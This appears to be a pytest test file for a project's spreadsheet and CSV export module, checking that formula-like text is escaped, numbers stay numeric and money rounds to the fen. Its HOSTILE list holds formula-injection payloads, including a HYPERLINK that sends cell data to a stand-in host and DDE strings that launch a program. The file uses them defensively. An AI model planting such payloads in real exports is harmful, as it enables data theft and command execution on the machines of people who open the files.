"""The one rule for every cell of every file the project writes (core.exports)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from core.exports import (
    MONEY_FORMAT,
    Money,
    cell_escape,
    csv_lines,
    money,
    text_escape,
    text_unescape,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("https://evil.test?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_gets_a_leading_quote(value):
    assert text_escape(value) == "'" + value


@pytest.mark.parametrize("value", ["Skyway Travel", "天际旅行", "a=b", "", "'quoted", "12.50"])
def test_ordinary_text_is_left_alone(value):
    assert text_escape(value) == value


@pytest.mark.parametrize("value", ["-12.50", "+3", "-0.5", "-7"])
def test_text_that_is_exactly_a_number_is_a_number_not_a_formula(value):
    assert text_escape(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -0.5, None, date(2026, 1, 1)])
def test_numbers_and_other_values_are_never_escaped(value):
    assert cell_escape(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "Skyway", "'quoted", "-12.50"])
def test_unescaping_gives_back_what_was_escaped(value):
    assert text_unescape(text_escape(value)) == value


def test_money_is_rounded_half_up_to_the_fen():
    assert money("2.345") == Money(Decimal("2.35"))
    assert money(Decimal("-2.345")) == Money(Decimal("-2.35"))
    assert money(None) is None
    assert str(money(Decimal("-1E+2"))) == "-100.00"


def test_csv_cells_are_inert_and_amounts_plain_numbers():
    text = "".join(csv_lines([["=1+1", money("-150"), -3, date(2026, 1, 2), None]]))

    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["'=1+1", "-150.00", "-3", "2026-01-02", ""]
    ]


def test_xlsx_text_is_a_string_and_money_a_number_in_the_money_format():
    body = xlsx_bytes(
        [["name", "amount"], ["=1+1", money("-150")], ["bad\x01char", 7]], title="t:1", header_rows=[0]
    )

    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    name, amount = sheet["A2"], sheet["B2"]
    assert (name.value, name.data_type) == ("'=1+1", "s")
    assert (amount.value, amount.data_type, amount.number_format) == (-150, "n", MONEY_FORMAT)
    assert sheet["A3"].value == "bad\N{REPLACEMENT CHARACTER}char"  # not a failed download
    assert (sheet["B3"].value, sheet["B3"].data_type) == (7, "n")
    assert sheet["A1"].font.b
